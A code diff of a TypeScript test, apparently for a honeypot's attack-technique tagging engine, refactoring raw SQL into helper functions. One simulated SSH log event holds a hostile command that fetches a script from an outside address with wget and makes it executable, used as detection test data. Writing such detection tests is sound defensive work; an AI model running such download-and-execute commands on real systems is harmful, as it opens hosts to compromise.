@@ -4,10 +4,10 @@
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { ConfigValidationError, MemoryBroker } from '@decnet/core';
+import { ConfigValidationError, EVENTS, MemoryBroker } from '@decnet/core';
 import { eventually } from '@decnet/core/testing';
-import type { Database } from '@decnet/db';
-import { migratedScratchDatabase } from '@decnet/db/testing';
+import { attackers, ttp_tag, type Database } from '@decnet/db';
+import { countRows, insertRows, migratedScratchDatabase, tableRows } from '@decnet/db/testing';
 import type { ScratchDatabase } from '@decnet/testing/postgres';
 import { AttackCatalog } from '@decnet/ttp-engine';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
@@ -94,9 +94,7 @@ describe('the running worker tags with the pack by default and says so', () => {
   let hosted: HostedTtp | undefined;
   beforeAll(async () => {
     ({ scratch, database } = await migratedScratchDatabase());
-    await database.pool.query(
-      "INSERT INTO attackers (uuid, ip) VALUES ('11111111-1111-4111-8111-111111111111', '198.51.100.7')",
-    );
+    await insertRows(database, attackers, [{ uuid: '11111111-1111-4111-8111-111111111111', ip: '198.51.100.7' }]);
   });
   afterAll(async () => {
     await hosted?.runner.close();
@@ -116,21 +114,17 @@ describe('the running worker tags with the pack by default and says so', () => {
     await broker
       .connect('producer')
       .publish(
-        'log.event.ssh',
+        EVENTS.logEvent.subject('ssh'),
         logEvent({
           event_type: 'command',
           fields: { cmd: 'uname -a; wget http://203.0.113.9/x.sh; chmod +x x.sh', sid: 's1' },
         }),
       );
-    await eventually(
-      async () =>
-        Number((await database.pool.query<{ n: string }>('SELECT count(*) AS n FROM ttp_tag')).rows[0]?.n) === 2,
-      10_000,
-    );
-    const rows = await database.pool.query<{ rule_id: string; technique_id: string }>(
-      'SELECT rule_id, technique_id FROM ttp_tag ORDER BY rule_id',
-    );
-    expect(rows.rows).toEqual([
+    await eventually(async () => (await countRows(database, ttp_tag)) === 2, 10_000);
+    const rows = (await tableRows(database, ttp_tag))
+      .map((t) => ({ rule_id: t.rule_id, technique_id: t.technique_id }))
+      .sort((a, b) => a.rule_id.localeCompare(b.rule_id));
+    expect(rows).toEqual([
       { rule_id: 'R0012', technique_id: 'T1105' },
       { rule_id: 'R0018', technique_id: 'T1082' },
     ]);
